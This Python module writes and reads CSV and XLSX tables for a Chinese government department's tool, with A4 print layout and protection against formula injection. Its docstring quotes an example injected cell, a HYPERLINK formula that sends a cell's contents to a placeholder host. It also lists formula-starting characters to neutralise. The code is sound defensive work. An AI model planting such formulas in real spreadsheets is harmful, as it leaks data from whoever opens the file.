"""Tables a department opens as is: CSV in UTF-8 with a BOM (so Excel reads the Chinese), and
XLSX with a frozen header row, sensible column widths, wrapped text and optional cell fills —
and printed as offices print them: A4, portrait or landscape as the table's width needs, one
page wide, the header row on every page, the title and 文号 at the top, 第X页 共Y页 at the foot.
Reading: the rows of a CSV file or of an XLSX workbook's first sheet, each with its row number.

Every CSV and XLSX the tool writes goes through here, and no cell can become a formula: names,
notes and units come from people outside the department (a provider called
``=HYPERLINK("http://x/?"&A1,"点击")``). CSV text cells starting with = + - @, tab or CR get a
leading ``'`` (the usual defence: Excel shows the text and runs nothing); XLSX text cells are
stored as text, never as formulas, and keep their value unchanged."""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any

from checklist.errors import InputFileError
from checklist.files import atomic
from checklist.files.loader import read_text

MAX_WIDTH = 60  # characters; longer cells wrap
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what spreadsheet programs read as the start of a formula


@dataclass
class Sheet:
    title: str
    header: Sequence[str]
    rows: Sequence[Sequence[Any]]
    fills: Mapping[tuple[int, int], str] = field(default_factory=dict)  # (row, column) in ``rows``, 0-based -> "#RRGGBB"
    heading: str = ""  # printed at the top of every page [default: the sheet's title]
    doc_no: str = ""  # the 文号 the table belongs to, printed at the top right
    footnote: str = ""  # printed at the foot of every page, left (e.g. the register log's head)


def csv_cell(value: Any) -> Any:
    """A value as a CSV cell that a spreadsheet shows and never evaluates."""
    if value is None:
        return ""
    if isinstance(value, Decimal):  # an exact amount: plain digits, never 3.7E+2
        return f"{value:f}"
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Sequence[Sequence[Any]], *, notes: Sequence[str] = ()) -> str:
    """CSV with a BOM; ``notes`` are '#' lines before the header, one cell each (quoted only when
    a value in them holds a comma, quote or line break, so it can never spill into other cells)."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerows([csv_cell(note)] for note in notes)
    w.writerow([csv_cell(v) for v in header])
    w.writerows([csv_cell(v) for v in row] for row in rows)
    return "\ufeff" + buf.getvalue()


def write_csv(path: Path, header: Sequence[str], rows: Sequence[Sequence[Any]]) -> None:
    atomic.write_text(path, csv_text(header, rows))


def write_xlsx(path: Path, sheets: Sequence[Sheet]) -> None:
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    book = Workbook()
    book.remove(book.active)
    wrap = Alignment(wrap_text=True, vertical="top")
    head_font, head_fill = Font(bold=True), PatternFill("solid", fgColor="E6E9EE")
    for sheet in sheets:
        ws = book.create_sheet(_sheet_title(sheet.title))
        ws.append(list(sheet.header))
        for row in sheet.rows:
            ws.append(["" if v is None else v for v in row])
        for line in ws.iter_rows():
            for cell in line:
                if isinstance(cell.value, str):
                    cell.data_type = "s"  # openpyxl takes a string starting with '=' for a formula
        for cell in ws[1]:
            cell.font, cell.fill, cell.alignment = head_font, head_fill, wrap
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                cell.alignment = wrap
        for (r, c), rgb in sheet.fills.items():
            ws.cell(row=r + 2, column=c + 1).fill = PatternFill("solid", fgColor="FF" + rgb.lstrip("#").upper())
        ws.freeze_panes = "A2"
        widths = _fitted(
            [
                (
                    display_width(title) + 2,
                    min(MAX_WIDTH, max(display_width(c) for c in [title, *(r[i] for r in sheet.rows if i < len(r))]) + 2),
                )
                for i, title in enumerate(sheet.header)
            ]
        )
        for i, width in enumerate(widths, 1):
            ws.column_dimensions[get_column_letter(i)].width = width
        if sheet.rows:
            ws.auto_filter.ref = ws.dimensions
        _print_setup(ws, sheet, sum(widths))
    buf = io.BytesIO()
    book.save(buf)
    atomic.write_bytes(path, buf.getvalue())


# How many character widths fit across an A4 page at 100% (Calibri 11, narrow margins): a wider
# table prints landscape; either way it is scaled to one page wide, so the widest tables get
# narrower columns (their text wraps) rather than print too small to read.
PORTRAIT_WIDTH = 95
LANDSCAPE_WIDTH = 140
READABLE_WIDTH = 180  # scaled to one landscape page, a table this wide still prints at about 80%


def _fitted(columns: list[tuple[int, int]]) -> list[int]:
    """Column widths (each between its header's width, at most 20, and its widest cell's) that
    add up to READABLE_WIDTH at most, taken from the widest columns first."""
    widths = [w for _, w in columns]
    floors = [min(h, 20, w) for h, w in columns]
    while sum(widths) > READABLE_WIDTH:
        widest = max(range(len(widths)), key=lambda i: widths[i] - floors[i])
        if widths[widest] <= floors[widest]:
            break
        widths[widest] -= 1
    return widths


def _print_setup(ws: Any, sheet: Sheet, width: int) -> None:
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.page_setup.orientation = ws.ORIENTATION_LANDSCAPE if width > PORTRAIT_WIDTH else ws.ORIENTATION_PORTRAIT
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.page_setup.fitToWidth, ws.page_setup.fitToHeight = 1, 0  # one page wide, as many pages down as it takes
    ws.print_title_rows = "1:1"  # the header row on every page
    ws.print_options.horizontalCentered = True
    ws.page_margins.left = ws.page_margins.right = 0.4
    ws.page_margins.top = ws.page_margins.bottom = 0.75
    ws.oddHeader.center.text = _header_text(sheet.heading or sheet.title)
    ws.oddHeader.center.size = 12
    if sheet.doc_no:
        ws.oddHeader.right.text = _header_text(sheet.doc_no)
    ws.oddFooter.center.text = "第 &P 页 共 &N 页"
    if sheet.footnote:
        ws.oddFooter.left.text = _header_text(sheet.footnote)
        ws.oddFooter.left.size = 7
    ws.evenHeader, ws.evenFooter = ws.oddHeader, ws.oddFooter


def _header_text(text: str) -> str:
    """Text for a page header: '&' starts a header code in Excel, so it is doubled."""
    return text.replace("&", "&&")


def display_width(value: Any) -> int:
    """Width in Excel's character units: CJK characters take two."""
    text = "" if value is None else str(value)
    longest = max(text.split("\n"), key=len) if text else ""
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in longest)


def _sheet_title(title: str) -> str:
    """Excel's limits: 31 characters, none of []:*?/\\."""
    cleaned = "".join("_" if ch in "[]:*?/\\" else ch for ch in title)
    return cleaned[:31] or "Sheet"


def read_table(path: Path) -> tuple[str, list[tuple[int, list[Any]]]]:
    """A CSV file's rows, or an XLSX workbook's first sheet's, each with its 1-based row number;
    and how to name the place in messages: ``file`` or ``file[sheet]``."""
    suffix = path.suffix.lower()
    if suffix == ".csv":
        text, _ = read_text(path)
        reader = csv.reader(io.StringIO(text))
        return str(path), [(reader.line_num, row) for row in reader]
    if suffix != ".xlsx":
        raise InputFileError("a table must be a .csv or .xlsx file", path=str(path))
    import openpyxl
    from openpyxl.utils.exceptions import InvalidFileException

    try:
        book = openpyxl.load_workbook(path, read_only=True, data_only=True)
    except FileNotFoundError as e:
        raise InputFileError("no such file", path=str(path)) from e
    except PermissionError as e:
        raise InputFileError("permission denied", path=str(path)) from e
    except (InvalidFileException, zipfile.BadZipFile, OSError, KeyError, ValueError) as e:
        raise InputFileError(f"not a readable XLSX workbook ({type(e).__name__})", path=str(path)) from e
    try:
        sheet = book.worksheets[0]
        rows = [(i, list(r)) for i, r in enumerate(sheet.iter_rows(values_only=True), 1)]
        return f"{path}[{sheet.title}]", rows
    finally:
        book.close()
